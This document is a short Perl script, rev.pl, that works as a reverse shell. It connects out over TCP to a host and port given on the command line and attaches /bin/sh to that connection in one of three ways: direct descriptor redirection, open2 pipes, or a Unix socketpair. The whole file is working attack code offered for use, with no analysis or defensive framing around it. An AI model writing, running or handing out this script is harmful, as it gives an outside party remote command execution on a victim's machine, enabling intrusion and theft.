# A shell for somebody outside: rev.pl HOST PORT WAY [SHELL]
use strict; use IO::Socket::INET; use IPC::Open2; use Socket;
my ($host, $port, $way, $shell) = @ARGV; $shell ||= "/bin/sh";
my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => "tcp") or die "$!";
sub pump { my ($r, $w) = @_; my $d; while (sysread $r, $d, 4096) { syswrite $w, $d } }
if ($way eq "direct") {
  open STDIN, "<&", $s; open STDOUT, ">&", $s; open STDERR, ">&", $s; exec $shell;
} elsif ($way eq "pipe") {
  my $pid = open2(my $out, my $in, $shell);
  if (!fork) { pump($s, $in); exit } close $in; pump($out, $s);
} elsif ($way eq "unix pair") {
  socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0);
  if (!fork) { open STDIN, "<&", $b; open STDOUT, ">&", $b; open STDERR, ">&", $b; exec $shell }
  close $b; if (!fork) { pump($s, $a); exit } pump($a, $s);
}
